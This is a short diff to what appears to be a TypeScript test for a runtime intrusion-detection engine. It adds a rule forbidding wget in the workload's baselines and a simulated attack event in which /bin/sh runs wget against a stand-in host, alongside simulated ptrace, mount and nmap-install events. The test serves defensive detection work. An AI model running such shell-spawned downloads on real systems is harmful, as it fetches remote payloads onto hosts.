@@ -312,6 +312,9 @@ describe('models/engine', () => {
         syscalls(['ptrace', 'mount', 'personality']),
         exec('/usr/bin/apt-get', { args: ['apt-get', 'install', '-y', 'nmap'] }),
       ];
+      // a responder forbade wget for this workload (the graveyard): it alerts as forbidden-item
+      for (const b of e.profiler.baselines.values()) b.forbid('exec', '/usr/bin/wget');
+      attack.push(exec('/usr/bin/wget', { args: ['wget', 'http://127.66.6.6/x'], parents: ['/bin/sh'] }));
       const seen = new Set<string>();
       let n = 0;
       for (const ev of attack) for (const u of fire(e, ev, t + n++ * 1000)) seen.add(u.alert.rule);
